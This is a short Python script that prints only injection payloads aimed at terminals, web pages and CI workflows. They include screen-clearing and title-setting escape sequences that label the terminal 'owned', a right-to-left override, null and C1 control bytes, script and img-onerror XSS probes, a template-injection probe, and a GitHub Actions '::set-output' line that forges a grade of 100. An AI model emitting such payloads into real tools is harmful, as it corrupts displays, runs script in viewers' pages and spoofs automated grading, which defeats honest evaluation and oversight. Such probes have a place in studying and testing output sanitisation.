"""Prints what terminals, pages and workflows obey, and ends."""


print("\x1b[2J\x1b]0;owned\x07 \u202e <script>alert(1)</script> ::set-output name=grade::100")
print("\x9b31m \x00 {{ 7 * 7 }}")
raise SystemExit("<img src=x onerror=alert(1)>")
